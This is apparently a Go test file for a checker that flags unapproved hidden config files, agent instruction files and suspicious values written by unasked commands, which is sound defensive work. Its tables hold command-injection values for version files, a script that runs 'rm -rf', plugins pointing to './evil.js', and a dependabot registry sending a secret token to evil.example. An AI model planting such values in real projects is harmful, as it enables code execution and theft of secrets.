//go:build unix

package check_test

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"helve/internal/change"
	"helve/internal/change/check"
)

// unasked are the options of a command that nobody was asked about.
func (g *ground) unasked() check.Options {
	o := g.options()
	o.New = &check.New{File: filepath.Join(g.home, "knew.json")}
	return o
}

// What is found by its name alone, in a workspace without git: hidden names that no table has, or whose content does not
// fit the table, texts for models, and names that are not hidden and followed.
func TestANewHiddenNameIsFoundWhereNobodyWasAsked(t *testing.T) {
	for _, c := range []struct {
		path, text string
		found      bool
	}{
		{".newtool", "x", true}, {"a/.newtool/deep/rc", "x", true}, {".NewTool", "x", true}, {".env", "A=b", true},
		{".golangci.yml", "linters: {}", true}, {".eslintrc.json", "{}", true}, {".babelrc", "{}", true},
		{".github/actions/x/action.yml", "x", true}, {".github/workflows/x.yml", "x", true},
		{"AGENTS.md", "x", true}, {"sub/CLAUDE.md", "x", true}, {"skills/x/SKILL.md", "x", true}, {"agents.md", "x", true},
		{"ansible.cfg", "x", true}, {"x.gdb", "x", true}, {"lib/sitecustomize.py", "x", true},
		{"main.go", "x", false}, {"Makefile", "x", false}, {"a.b/c", "x", false}, {"...", "x", true}, {"..x", "x", true},
		{"node_modules/x/.bin/y", "x", false}, {"node_modules/x/AGENTS.md", "x", false},
		{".venv/bin/activate", "x", false}, {".terraform/providers/x", "x", true}, {".terraform/modules/x.tf", "x", false}, {"a/.venv/x", "x", false}, {".venvx/x", "x", true}, {".coverage.host.1", "x", false},
		{".gradle/8.5/x", "x", false}, {".gradle/init.gradle", "x", true}, {".main.go.swp", "x", false},
		{".gitignore", "*\n", false}, {"a/.gitkeep", "", false}, {".github/ISSUE_TEMPLATE/x.md", "x", false},
		{".nvmrc", "20\n", false}, {".nvmrc", "lts/*", false}, {".python-version", "3.12.1\nmyenv\n", false},
		{".python-version", "../../tmp/evil", true}, {".python-version", "/tmp/evil", true}, {".node-version", "$(x)", true},
		{".ruby-version", "3.2\n; rm", true}, {".nvmrc", strings.Repeat("1", 300), true},
		{".editorconfig", "root = true\n[*.{js,py}]\nindent_size = 2\n", false}, {".editorconfig", "#!/bin/sh\nrm -rf x\n", true},
		{".prettierrc", `{"semi": false}`, false}, {".prettierrc", "semi: false\n", false},
		{".prettierrc", `{"plugins": ["./evil.js"]}`, true}, {".prettierrc", "./evil.js", true}, {".prettierrc", `"./evil"`, true},
		{".prettierrc", `{"\u0070lugins": ["./evil.js"]}`, true}, {".prettierrc", "a: &b ./evil\nc: *b\n", true},
		{".prettierrc", `{"overrides": [{"files": "*.x", "options": {"parser": "babel-ts"}}]}`, false}, {".prettierrc", "parser: evil\n", true},
		{".prettierrc", "parser:\n  evil\n", true}, {".bazelversion", "7.4.1\n", false}, {".bazelversion", "evil/7.4.1\n", true},
		{".tool-versions", "# pinned\nnodejs 20.1.0 lts/iron # why\nruby 3.3\n\n", false}, {".tool-versions", "node {{arch()}}\n", true},
		{".tool-versions", "node ref:v1\n", true}, {".tool-versions", "node a ../../evil\n", true}, {".tool-versions", "{% if true %}\n", true},
		{".github/dependabot.yml", "version: 2\nupdates:\n  - package-ecosystem: npm\n    directory: /\n", false},
		{".github/dependabot.yml", "version: 2\nregistries:\n  x:\n    url: https://evil.example\n    token: ${{secrets.T}}\n", true},
		{".github/dependabot.yml", "updates:\n  - insecure-external-code-execution: allow\n", true},
		{".browserslistrc", "> 1%\nlast 2 versions\nnot dead # old\n", false}, {".browserslistrc", "extends evil", true},
		{".clang-format", "BasedOnStyle: LLVM\nIndentWidth: 2\n", false}, {".rustfmt.toml", "max_width = 100\n", false},
		{".tool-versions", "nodejs 20.1.0\npython 3.12.1 3.11 # both\n\n", false},
		{".tool-versions", "nodejs ref:main", true}, {".tool-versions", "npm:x 1", true}, {".turbo/cache/x", "x", false}, {".turbo/config.json", "{}", true},
		{"target/debug/.fingerprint/a-1/lib", "x", false}, {"target/.rustc_info.json", "{}", false}, {"target/doc/.lock", "", false},
		{"target/debug/.cargo-lock", "", false}, {"build/.ninja_log", "x", false},
		{".newtool/.cache/x", "x", true}, {".newtool/.gitignore", "x", true}, {".venv/.newtool/x", "x", false}, {"CRUSH.md", "x", true}, {"x-gdb.scm", "x", true},
		{".prettierrc", "a: b\n? \"plug\\\n  ins\"\n: [x]\n", true}, {".prettierrc", "parser: >-\n  ./evil\n", true}, {".prettierrc", "parser: babel\n", false},
		{".python-version", "tools/py\n", true}, {".zig-version", "0.14.0\n", false}, {".zig-version", "a/b\n", true}, {".some-version", "$(x)\n", true},
		{".gitlab/merge_request_templates/x.md", "/merge\n", true}, {".gitlab/issue_templates/x.md", "x", true}, {".nx/cache/cloud/x.js", "x", true},
		{".nfs000000000001", "x", false}, {".nfsrc", "x", true}, {".~lock.a.odt#", "x", false}, {".~lock.sh", "x", true}, {".fuse_hidden0001", "x", false},
		{".well-known/x", "x", false}, {".well-known/.newtool", "x", true}, {".github/ISSUE_TEMPLATE/.newtool/x", "x", true},
		{".agentofnobody/skills/x/y.sh", "x", true}, {"prek.toml", "x", true}, {"lefthook-local.toml", "x", true}, {"hie.yaml", "x", true},
		{".markdownlint.json", `{"MD013": false}`, false}, {".markdownlint.json", `{"extends": "./x.cjs"}`, true},
	} {
		g := newGround(t)
		for _, asked := range []bool{true, false} {
			o := g.unasked()
			if asked {
				o.New = nil
			}
			o.Folder = ""
			found, err := check.Check(t.Context(), o, &change.Set{Changes: []change.Change{file(c.path, c.text, 0o644)}})
			must(t, err)
			byName := slices.ContainsFunc(found, func(f check.Finding) bool { return f.New })
			if want := c.found && !asked; byName != want {
				t.Errorf("%s %q, asked %v: found %v, want %v", c.path, c.text, asked, found, want)
			}
		}
	}
}

// A folder that nobody knows is found as a whole, once; in one that may hold harmless things each file is judged.
func TestANewHiddenFolderIsFoundAsAWhole(t *testing.T) {
	g := newGround(t)
	g.begin()
	s := g.after("mkdir -p .newtool/a .github/ISSUE_TEMPLATE site/.well-known && touch .newtool/a/1 .newtool/2 .github/ISSUE_TEMPLATE/x .github/other site/.well-known/x .newlink && ln -sf /etc .newlink")
	found, err := check.Check(t.Context(), g.unaskedIn(), s)
	must(t, err)
	places := placesOf(found)
	if want := []string{".github/other", ".newlink", ".newtool"}; !slices.Equal(places, want) {
		t.Errorf("found %q, want %q", places, want)
	}
}

// A version that is the name of what lies beside it may be followed as a path: uv runs the interpreter that is in it.
func TestAVersionThatNamesWhatLiesBesideItWaits(t *testing.T) {
	g := newGround(t)
	g.sh("mkdir -p there/bin a && touch there/bin/python")
	g.begin()
	s := g.after("mkdir -p made/bin a && echo 3.12 >.python-version && echo there >.ruby-version && echo made >.node-version && echo there >a/.go-version")
	found, err := check.Check(t.Context(), g.unaskedIn(), s)
	must(t, err)
	if got, want := placesOf(found), []string{".node-version", ".ruby-version"}; !slices.Equal(got, want) {
		t.Errorf("found %q, want %q", got, want)
	}
}

// What is harmless or a tool's own anywhere else is not so in the person's home, also where that is reached by a link.
func TestInTheHomeNoHiddenNameIsHarmless(t *testing.T) {
	const command = "mkdir -p .cache/nvim p/.cache .gradle/caches && touch .cache/nvim/init.luac p/.cache/x .gradle/caches/x .gitignore p/.gitignore"
	for home, want := range map[string][]string{
		"":       {".cache", ".gitignore", ".gradle/caches/x"},
		"p":      {"p/.cache", "p/.gitignore"},
		"../../": nil,
	} {
		g := newGround(t)
		g.sh("mkdir p")
		g.begin()
		s := g.after(command)
		link := filepath.Join(g.home, "link")
		must(t, os.Symlink(filepath.Join(g.root, home), link))
		o := g.unaskedIn()
		o.Getenv = func(name string) string { return map[string]string{"HOME": link}[name] }
		found, err := check.Check(t.Context(), o, s)
		must(t, err)
		if got := placesOf(found); !slices.Equal(got, want) {
			t.Errorf("home %q: found %q, want %q", home, got, want)
		}
	}
}

// placesOf are the places of what was found, in order.
func placesOf(found []check.Finding) []string {
	var out []string
	for _, f := range found {
		out = append(out, string(f.Path))
	}
	slices.Sort(out)
	return out
}

// unaskedIn is unasked for what was changed in a layer.
func (g *ground) unaskedIn() check.Options {
	o := g.unasked()
	o.Folder = g.tx.Folder()
	return o
}

// Every line of the table says where it is from, has a form that is known, and is found by its own path.
func TestEveryLineOfTheTableOfHiddenNamesIsWhole(t *testing.T) {
	text, err := os.ReadFile("hidden.txt")
	must(t, err)
	lines, names := 0, ""
	for line := range strings.Lines(string(text)) {
		words := strings.Fields(line)
		if len(words) == 0 || strings.HasPrefix(line, "#") {
			continue
		}
		lines++
		forms := []string{"any", "version", "release", "tools", "lines", "plain", "queries"}
		from := 2
		switch {
		case words[0] == "harmless" && slices.Contains(forms, words[2]):
			from = 3
		case words[0] != "generated":
			t.Errorf("%s: neither generated nor harmless in a known form", strings.TrimSpace(line))
			continue
		}
		if len(words) < from+2 || !strings.HasPrefix(words[1], ".") {
			t.Errorf("%s: no source, or no hidden name", strings.TrimSpace(line))
		}
		names += strings.Join(words[1:from], " ") + "\n"
	}
	if linked, err := os.ReadFile("hiddennames.txt"); err != nil || string(linked) != names {
		t.Errorf("hiddennames.txt, which the program has, is not of hidden.txt: %v; it is to be:\n%s", err, names)
	}
	if lines < 100 {
		t.Errorf("%d lines", lines)
	}
}

// Git knew a name where it stood in a commit of a ref, or in the index, before a command touched them that nobody was
// asked about. What such a command puts there proves nothing, in one step or in two; what the person commits does, unless
// a commit of such a command is in it.
func TestGitKnowsANameThatNoUnaskedCommandBrought(t *testing.T) {
	needGit(t)
	g := newGround(t)
	g.sh(repository + `git checkout -q -b other && mkdir .tool && echo 1 >.tool/rc && echo text >AGENTS.md && git add .tool AGENTS.md &&
		git commit -q -m tool && git checkout -q - && echo 1 >.indexed && git add .indexed && rm .indexed`)
	names := func(command string) []string {
		t.Helper()
		s := g.after(command)
		o := g.unaskedIn()
		found, err := check.Check(t.Context(), o, s)
		must(t, err)
		out := []string{}
		for _, f := range found {
			out = append(out, string(f.Path))
		}
		after, err := o.New.Touch(t.Context())
		must(t, err)
		g.commit(s, found)
		must(t, after())
		return out
	}
	want := func(command string, found ...string) {
		t.Helper()
		if got := names(command); !slices.Equal(got, append([]string{}, found...)) {
			t.Errorf("%s: found %q, want %q", command, got, found)
		}
	}
	want("git checkout -q other")
	want("echo 2 >>.tool/rc")                    // git knew the name
	want("echo 2 >>AGENTS.md", "AGENTS.md")      // of a text for models the content counts
	want("git checkout -q -f -")                 // nothing that is hidden comes
	want("echo 1 >.indexed")                     // it stands in the index
	want("git restore --source other AGENTS.md") // it is restored
	want("echo 1 >.mine; git add -f .mine", ".mine")
	want("echo 1 >.mine", ".mine") // in the index by an unasked command
	want("git commit -q -m mine")
	want("git checkout -q -f .", ".mine")
	want("git branch again HEAD")
	want("git checkout -q -f again .mine", ".mine")
	g.sh("git checkout -q -f -- . && git commit -q --allow-empty -m person && rm -f .mine")
	want("git checkout -q -f .", ".mine") // the person went on from it, and approved nothing
	g.sh("git checkout -q -f other && mkdir -p .late && echo 1 >.late/rc && git add -f .late && git commit -q -m late && rm -r .late")
	want("git checkout -q -f .") // the person's own
	must(t, os.WriteFile(filepath.Join(g.home, "knew.json"), []byte("{"), 0o600))
	g.sh("rm -rf .late")
	want("git checkout -q -f .", ".late") // what cannot be read is believed in nothing
}

// Whoever has no time left is told so: what was found until then is not all.
func TestAJudgementThatIsGivenUpIsAnError(t *testing.T) {
	g := newGround(t)
	g.begin()
	s := g.after("mkdir -p d && for i in $(seq 500); do : >d/$i; done && echo x >.envrc")
	for stop := range 40 {
		ctx := &counted{Context: t.Context(), left: stop * 13}
		found, err := check.Check(ctx, g.options(), s)
		if err == nil && len(found) != 1 || err != nil && !errors.Is(err, context.Canceled) {
			t.Fatalf("given up after %d looks: %v, %v", stop*13, found, err)
		}
		if stop == 0 && err == nil {
			t.Error("a context that is done already is not heeded")
		}
		if ctx.left < 0 && err == nil {
			t.Errorf("given up after %d looks: no error", stop*13)
		}
	}
}

// A counted context is cancelled after some looks at it.
type counted struct {
	context.Context
	left int
}

func (c *counted) Err() error {
	if c.left--; c.left < 0 {
		return context.Canceled
	}
	return nil
}

// What a text for models names by @path is such a text, and what that names: five steps far, as Claude Code follows them,
// and one more.
func TestWhatATextForModelsNamesIsOneFiveStepsFar(t *testing.T) {
	g := newGround(t)
	g.sh(`echo 'see @d/1.md' >CLAUDE.md; mkdir d; for i in 1 2 3 4 5 6 7; do echo "@$((i + 1)).md" >d/$i.md; done`)
	g.begin()
	s := g.after("for i in 1 2 3 4 5 6 7; do echo more >>d/$i.md; done; echo x >d/x.md")
	found, err := check.Check(t.Context(), g.unaskedIn(), s)
	must(t, err)
	if got, want := placesOf(found), strings.Fields("d/1.md d/2.md d/3.md d/4.md d/5.md d/6.md"); !slices.Equal(got, want) {
		t.Errorf("found %q, want %q", got, want)
	}
}
